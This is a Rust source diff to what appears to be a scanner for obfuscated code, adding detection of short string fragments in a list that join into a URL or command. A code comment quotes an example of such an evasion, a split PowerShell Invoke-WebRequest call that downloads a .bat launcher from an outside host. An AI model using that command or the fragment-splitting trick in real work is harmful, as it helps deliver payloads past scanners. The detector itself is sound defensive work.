@@ -91,6 +91,8 @@ struct Candidate {
     reversed: bool,
     /// A list of numbers (char codes), not a string.
     char_codes: bool,
+    /// Short fragments of a list, joined.
+    joined: bool,
 }
 
 /// String literals (adjacent ones joined across `+`, whitespace and line
@@ -115,6 +117,21 @@ fn candidates(data: &[u8]) -> Vec<Candidate> {
             end = literals[j].1;
             j += 1;
         }
+        // A list of short fragments that read as a URL or command once joined:
+        // `["Invoke-WebRequest ", "'http://stellar-", "conquest.fr/launcher.bat'"]`.
+        if j == i + 1 {
+            if let Some((joined, last)) = joined_list_fragments(data, &literals, i) {
+                out.push(Candidate {
+                    bytes: joined,
+                    offset: start,
+                    reversed: false,
+                    char_codes: false,
+                    joined: true,
+                });
+                i = last + 1;
+                continue;
+            }
+        }
         i = j;
         if bytes.len() >= MIN_LITERAL && bytes.len() <= MAX_LITERAL {
             let after = &data[end..data.len().min(end + 16)];
@@ -126,11 +143,45 @@ fn candidates(data: &[u8]) -> Vec<Candidate> {
                 offset: start,
                 reversed,
                 char_codes: false,
+                joined: false,
             });
         }
     }
     out.extend(char_code_arrays(data));
     out
+}
+
+/// Fragments in a list, at least four, short on average, separated only by commas and
+/// whitespace, that read as a URL or code once joined. Returns the joined text and the
+/// index of the last literal used.
+fn joined_list_fragments(
+    data: &[u8],
+    literals: &[(usize, usize, Vec<u8>)],
+    first: usize,
+) -> Option<(Vec<u8>, usize)> {
+    let mut last = first;
+    while last + 1 < literals.len()
+        && last - first < 256
+        && data[literals[last].1..literals[last + 1].0]
+            .iter()
+            .all(|b| b" \t\r\n,".contains(b))
+    {
+        last += 1;
+    }
+    let count = last - first + 1;
+    if count < 4 {
+        return None;
+    }
+    let joined: Vec<u8> = literals[first..=last]
+        .iter()
+        .flat_map(|(_, _, b)| b.iter().copied())
+        .collect();
+    let short = joined.len() / count <= 16;
+    let split_url = contains_ci(&joined, b"http")
+        && !literals[first..=last]
+            .iter()
+            .any(|(_, _, b)| contains_ci(b, b"http://") || contains_ci(b, b"https://"));
+    (short && (split_url || looks_like_code(&joined))).then_some((joined, last))
 }
 
 fn inside_join(data: &[u8], literal_start: usize) -> bool {
@@ -234,6 +285,7 @@ fn char_code_arrays(data: &[u8]) -> Vec<Candidate> {
                 offset: i,
                 reversed: false,
                 char_codes: true,
+                joined: false,
             });
             i = k;
         } else {
@@ -300,6 +352,7 @@ fn decode_candidate(c: &Candidate, hints: Hints) -> Vec<(Vec<String>, Vec<u8>)> 
         offset: c.offset,
         reversed: true,
         char_codes: false,
+        joined: false,
     };
     decode_candidate_as_is(&reversed, hints)
 }
@@ -308,6 +361,10 @@ fn decode_candidate_as_is(c: &Candidate, hints: Hints) -> Vec<(Vec<String>, Vec<
     let mut results = Vec::new();
     if c.char_codes {
         results.push((vec!["char codes".to_string()], c.bytes.clone()));
+        return results;
+    }
+    if c.joined {
+        results.push((vec!["joined fragments".to_string()], c.bytes.clone()));
         return results;
     }
     let mut base = c.bytes.clone();
